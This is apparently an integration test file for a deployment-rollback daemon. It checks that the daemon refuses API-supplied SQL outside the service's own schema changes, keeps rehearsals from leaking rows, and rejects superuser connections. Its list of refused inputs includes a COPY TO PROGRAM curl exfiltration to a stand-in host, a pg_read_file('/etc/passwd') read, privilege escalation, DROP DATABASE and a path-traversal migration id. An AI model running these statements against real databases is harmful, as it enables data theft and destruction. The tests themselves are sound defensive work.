"""Where the rollback SQL comes from, through the real API and the real PostgreSQL.

A pipeline's token registers deployments and nothing else: the SQL watchdogd
runs comes from the operators' migrations directory, or from the request only
when the service allows it and then only schema changes in its own schemas.
Rehearsals and verify queries answer true or false, never rows.
"""

from __future__ import annotations

import hashlib
import json
import uuid
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import aiohttp
import asyncpg
import pytest
from aiohttp import web

from tests.testbed.containers import free_port
from watchdogd.api import create_app
from watchdogd.auth import Principal, Tokens
from watchdogd.config.loader import load_config_text
from watchdogd.daemon import Daemon
from watchdogd.demo.seed000 import BASE_SCHEMA, MIGRATION_ID, SEED_ROLLBACK, SEED_VERIFY, UP_MIGRATION
from watchdogd.testing import FakeClock, NoDocker, RecordingStep, memory_store

pytestmark = pytest.mark.integration

DEPLOYER, OPERATOR, VIEWER = "deployer-token-0123456789", "operator-token-0123456789", "viewer-token-012345"
SECRET = "$2b$12$secret.hash.of.a.password"


@dataclass
class Api:
    url: str
    daemon: Daemon

    async def call(
        self, method: str, path: str, body: Any = None, token: str = DEPLOYER
    ) -> tuple[int, dict[str, Any]]:
        headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
        data = None if body is None else json.dumps(body).encode()
        async with (
            aiohttp.ClientSession() as session,
            session.request(method, self.url + path, data=data, headers=headers) as response,
        ):
            return response.status, await response.json()

    async def audit_text(self) -> str:
        status, body = await self.call("GET", "/v1/audit", token=VIEWER)
        assert status == 200, body
        return json.dumps(body)


ApiFactory = Callable[..., Any]


@pytest.fixture
async def api(tmp_path: Path) -> AsyncIterator[ApiFactory]:
    made: list[tuple[web.AppRunner, Daemon]] = []

    async def make(database: str, steps: str = "[sql]", **extra: str) -> Api:
        more = "".join(f"\n    {key}: {value}" for key, value in extra.items())
        text = (
            "state: {url: 'sqlite:///:memory:'}\n"
            "services:\n"
            "  api:\n"
            f"    database: {database}\n"
            f"    rollback: {{steps: {steps}}}{more}\n"
        )
        clock = FakeClock()
        daemon = await Daemon.open(
            load_config_text(text, "watchdogd.yaml", base_dir=tmp_path),
            store=await memory_store(clock),
            clock=clock,
            polling=False,
            docker=NoDocker(),
            steps={"container": RecordingStep("container")},
        )
        tokens = Tokens(
            {
                hashlib.sha256(DEPLOYER.encode()).hexdigest(): Principal("ci", "deployer"),
                hashlib.sha256(OPERATOR.encode()).hexdigest(): Principal("alice", "operator"),
                hashlib.sha256(VIEWER.encode()).hexdigest(): Principal("victor", "viewer"),
            }
        )
        runner = web.AppRunner(create_app(daemon, tokens))
        await runner.setup()
        port = free_port()
        await web.TCPSite(runner, "127.0.0.1", port).start()
        made.append((runner, daemon))
        return Api(f"http://127.0.0.1:{port}", daemon)

    yield make
    for runner, daemon in reversed(made):
        await runner.cleanup()
        await daemon.close(1)


def plain_dir(root: Path, migration_id: str, down: str, verify: str | None = None) -> Path:
    folder = root / "migrations" / migration_id
    folder.mkdir(parents=True)
    (folder / "down.sql").write_text(down)
    if verify is not None:
        (folder / "verify.sql").write_text(verify)
    return root / "migrations"


@pytest.fixture
async def seeded(pg_dsn: str) -> str:
    conn = await asyncpg.connect(pg_dsn)
    try:
        await conn.execute(BASE_SCHEMA)
        await conn.execute("CREATE TABLE users (id int, password text)")
        await conn.execute("INSERT INTO users VALUES (1, $1)", SECRET)
        await conn.execute(UP_MIGRATION)
    finally:
        await conn.close()
    return pg_dsn


# --- roles -----------------------------------------------------------------------------------


async def test_a_deployer_asking_for_a_rehearsal_is_forbidden(api: ApiFactory, tmp_path: Path) -> None:
    plain_dir(tmp_path, MIGRATION_ID, SEED_ROLLBACK)
    wd = await api(
        "{dsn: 'postgresql://app@127.0.0.1:1/app', migrations: {dir: migrations}, allow_superuser: true}"
    )
    body = {"service": "api", "migrations": [{"id": MIGRATION_ID}], "rehearse": True}
    status, answer = await wd.call("POST", "/v1/deployments", body)
    assert (status, answer["error"]["code"]) == (403, "forbidden"), answer
    assert "rehearse" in answer["error"]["message"]
    assert await wd.daemon.store.deployments() == []  # nothing registered on a refused request

    status, answer = await wd.call("POST", "/v1/deployments", {**body, "rehearse": False})
    assert status == 201, answer
    status, answer = await wd.call("POST", f"/v1/deployments/{answer['id']}/rehearse")
    assert (status, answer["error"]["code"]) == (403, "forbidden")


# --- SQL from the operators' files -------------------------------------------------------------


async def test_the_down_sql_is_read_from_the_migrations_directory_with_its_sha256(
    api: ApiFactory, tmp_path: Path
) -> None:
    directory = plain_dir(tmp_path, MIGRATION_ID, SEED_ROLLBACK, ";\n".join(SEED_VERIFY))
    wd = await api("{dsn: 'postgresql://app@127.0.0.1:1/app', migrations: {dir: migrations}}")
    status, answer = await wd.call(
        "POST", "/v1/deployments", {"service": "api", "migrations": [{"id": MIGRATION_ID}]}
    )
    assert status == 201, answer
    stored = await wd.daemon.store.deployment(answer["id"])
    assert stored is not None
    (migration,) = stored.facts.migrations
    assert migration.down_sql == SEED_ROLLBACK
    assert migration.verify == SEED_VERIFY
    assert migration.source == "file"
    down = directory / MIGRATION_ID / "down.sql"
    assert dict(migration.files)[str(down)] == hashlib.sha256(down.read_bytes()).hexdigest()

    status, answer = await wd.call(
        "POST", "/v1/deployments", {"service": "api", "migrations": [{"id": "20990101_nope"}]}
    )
    assert (status, answer["error"]["code"]) == (422, "unknown_migration"), answer
    assert str(directory) in answer["error"]["message"]
    status, answer = await wd.call(
        "POST", "/v1/deployments", {"service": "api", "migrations": [{"id": "../../etc"}]}
    )
    assert (status, answer["error"]["code"]) == (422, "unknown_migration"), answer


async def test_sql_in_a_request_is_refused_unless_the_service_takes_it(api: ApiFactory) -> None:
    wd = await api("{dsn: 'postgresql://app@127.0.0.1:1/app'}")
    migration = {"id": "m1", "down_sql": "DROP TABLE IF EXISTS product_images;"}
    status, answer = await wd.call("POST", "/v1/deployments", {"service": "api", "migrations": [migration]})
    assert (status, answer["error"]["code"]) == (422, "sql_from_api_disabled"), answer
    assert "sql_from_api" in answer["error"]["message"]
    status, answer = await wd.call(
        "POST",
        "/v1/deployments",
        {"service": "api", "migrations": [{"id": "m1", "verify_sql": ["SELECT true"]}]},
    )
    assert (status, answer["error"]["code"]) == (422, "sql_from_api_disabled"), answer


@pytest.mark.parametrize(
    "down_sql",
    [
        "ALTER ROLE app SUPERUSER",
        "GRANT ALL ON products TO PUBLIC",
        "ALTER SYSTEM SET log_statement = 'none'",
        "DROP DATABASE app",
        "COPY products TO PROGRAM 'curl -d @- http://evil'",
        "CREATE EXTENSION dblink",
        "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$",
        "DROP TABLE IF EXISTS billing.invoices",
        "SELECT password FROM users",
        "DELETE FROM users",
        "ALTER TABLE products ADD COLUMN leak text DEFAULT pg_read_file('/etc/passwd')",
    ],
)
async def test_sql_from_the_api_is_only_the_services_own_schema_changes(
    api: ApiFactory, down_sql: str
) -> None:
    wd = await api("{dsn: 'postgresql://app@127.0.0.1:1/app', sql_from_api: true}")
    migration = {"id": "m1", "down_sql": f"DROP INDEX IF EXISTS x;\n{down_sql};"}
    status, answer = await wd.call("POST", "/v1/deployments", {"service": "api", "migrations": [migration]})
    assert (status, answer["error"]["code"]) == (422, "sql_refused"), answer
    assert "line 2" in answer["error"]["message"]


async def test_sql_from_the_api_takes_schema_changes_and_catalog_checks(api: ApiFactory) -> None:
    wd = await api("{dsn: 'postgresql://app@127.0.0.1:1/app', sql_from_api: true, schemas: [public, app]}")
    migration = {
        "id": MIGRATION_ID,
        "down_sql": SEED_ROLLBACK + "\nDROP TABLE IF EXISTS app.t;",
        "verify_sql": list(SEED_VERIFY),
    }
    status, answer = await wd.call("POST", "/v1/deployments", {"service": "api", "migrations": [migration]})
    assert status == 201, answer
    leak = {
        "id": "m2",
        "down_sql": "DROP TABLE IF EXISTS t;",
        "verify_sql": ["SELECT password LIKE '$2b%' FROM users"],
    }
    status, answer = await wd.call("POST", "/v1/deployments", {"service": "api", "migrations": [leak]})
    assert (status, answer["error"]["code"]) == (422, "sql_refused"), answer


# --- rehearsals -------------------------------------------------------------------------------


async def test_a_rehearsal_answers_true_or_false_never_the_rows(
    api: ApiFactory, tmp_path: Path, seeded: str
) -> None:
    # the operators' own verify query, reading a row: its value must not reach the answer or the audit
    plain_dir(tmp_path, MIGRATION_ID, SEED_ROLLBACK, "SELECT password FROM users LIMIT 1")
    wd = await api(f"{{dsn: '{seeded}', migrations: {{dir: migrations}}, allow_superuser: true}}")
    status, deployment = await wd.call(
        "POST", "/v1/deployments", {"service": "api", "migrations": [{"id": MIGRATION_ID}]}
    )
    assert status == 201, deployment
    status, report = await wd.call("POST", f"/v1/deployments/{deployment['id']}/rehearse", token=OPERATOR)
    assert status == 200, report
    assert report["status"] == "failed"
    assert "SELECT password FROM users LIMIT 1" in report["detail"]
    assert "not true" in report["detail"]
    assert "secret" not in json.dumps(report)
    assert "secret" not in await wd.audit_text()


async def test_an_error_message_quoting_a_value_is_not_echoed(
    api: ApiFactory, tmp_path: Path, seeded: str
) -> None:
    plain_dir(tmp_path, MIGRATION_ID, SEED_ROLLBACK, "SELECT (SELECT password FROM users LIMIT 1)::int = 1")
    wd = await api(f"{{dsn: '{seeded}', migrations: {{dir: migrations}}, allow_superuser: true}}")
    status, deployment = await wd.call(
        "POST", "/v1/deployments", {"service": "api", "migrations": [{"id": MIGRATION_ID}]}
    )
    status, report = await wd.call("POST", f"/v1/deployments/{deployment['id']}/rehearse", token=OPERATOR)
    assert (status, report["status"]) == (200, "failed"), report
    assert "22P02" in report["detail"]
    assert "secret" not in json.dumps(report)
    assert "secret" not in await wd.audit_text()


@pytest.mark.parametrize(
    ("steps", "extra"), [("[container]", "destructive: approve"), ("[sql]", "destructive: refuse")]
)
async def test_no_rehearsal_where_the_sql_step_would_not_run(
    api: ApiFactory, tmp_path: Path, seeded: str, steps: str, extra: str
) -> None:
    plain_dir(tmp_path, MIGRATION_ID, "DROP TABLE products CASCADE;")
    wd = await api(
        f"{{dsn: '{seeded}', migrations: {{dir: migrations}}, allow_superuser: true, {extra}}}",
        steps=steps,
        container="api",
    )
    status, deployment = await wd.call(
        "POST", "/v1/deployments", {"service": "api", "migrations": [{"id": MIGRATION_ID}]}
    )
    assert status == 201, deployment
    status, answer = await wd.call("POST", f"/v1/deployments/{deployment['id']}/rehearse", token=OPERATOR)
    assert (status, answer["error"]["code"]) == (409, "sql_step_off"), answer
    status, answer = await wd.call(
        "POST",
        "/v1/deployments",
        {"service": "api", "migrations": [{"id": MIGRATION_ID}], "rehearse": True},
        token=OPERATOR,
    )
    assert (status, answer["error"]["code"]) == (409, "sql_step_off"), answer


# --- the database user -------------------------------------------------------------------------


async def test_a_superuser_dsn_makes_the_sql_refused_at_registration(
    api: ApiFactory, tmp_path: Path, seeded: str
) -> None:
    plain_dir(tmp_path, MIGRATION_ID, SEED_ROLLBACK)
    wd = await api(f"{{dsn: '{seeded}', migrations: {{dir: migrations}}}}")
    status, deployment = await wd.call(
        "POST", "/v1/deployments", {"service": "api", "migrations": [{"id": MIGRATION_ID}]}
    )
    assert status == 201, deployment
    assert deployment["sql_policy"] == "refuse"
    assert "superuser" in deployment["assessment_error"]
    assert "allow_superuser" in deployment["assessment_error"]
    status, answer = await wd.call("POST", f"/v1/deployments/{deployment['id']}/rehearse", token=OPERATOR)
    assert (status, answer["error"]["code"]) == (409, "sql_step_off"), answer


async def test_the_sql_step_runs_as_a_least_privilege_role(tmp_path: Path, seeded: str) -> None:
    """As the schema's owner, not a superuser, the rollback runs; as postgres without the flag it does not."""
    from watchdogd.config.models import ServiceConfig
    from watchdogd.model import Migration
    from watchdogd.rollback.base import RollbackTarget
    from watchdogd.rollback.sql import SqlStep

    role = f"wd_app_{uuid.uuid4().hex[:10]}"
    admin = await asyncpg.connect(seeded)
    try:
        await admin.execute(f"CREATE ROLE {role} LOGIN")
        database = await admin.fetchval("SELECT current_database()")
        await admin.execute(f'ALTER DATABASE "{database}" OWNER TO {role}')
        await admin.execute(f"ALTER SCHEMA public OWNER TO {role}")
        for (table,) in await admin.fetch("SELECT tablename FROM pg_tables WHERE schemaname = 'public'"):
            await admin.execute(f'ALTER TABLE public."{table}" OWNER TO {role}')
        for (name,) in await admin.fetch(
            "SELECT typname FROM pg_type t JOIN pg_enum e ON e.enumtypid = t.oid GROUP BY typname"
        ):
            await admin.execute(f'ALTER TYPE public."{name}" OWNER TO {role}')

        def target(dsn: str, **database: Any) -> RollbackTarget:
            settings = {"lock_wait": "1s", "destructive": "auto", **database}
            config = ServiceConfig.model_validate({"database": {"dsn": dsn, **settings}})
            migration = Migration(MIGRATION_ID, SEED_ROLLBACK, SEED_VERIFY)
            return RollbackTarget("api", "dep-1", config, migrations=(migration,))

        for refused in (await SqlStep().run(target(seeded)), await SqlStep().rehearse(target(seeded))):
            assert refused.status == "failed"
            assert "superuser" in refused.detail and "allow_superuser" in refused.detail
        assert await admin.fetchval("SELECT to_regclass('product_images') IS NOT NULL")

        least = seeded.replace("postgres@", f"{role}@", 1)
        assert least != seeded
        result = await SqlStep().run(target(least))
        assert result.status == "done", result.detail
        assert await admin.fetchval("SELECT to_regclass('product_images') IS NULL")
    finally:
        await admin.execute(f"REASSIGN OWNED BY {role} TO postgres")
        await admin.execute(f"DROP OWNED BY {role}")
        await admin.close()
        cleanup = await asyncpg.connect(seeded.rsplit("/", 1)[0] + "/postgres")
        try:
            await cleanup.execute(f"DROP ROLE IF EXISTS {role}")
        finally:
            await cleanup.close()
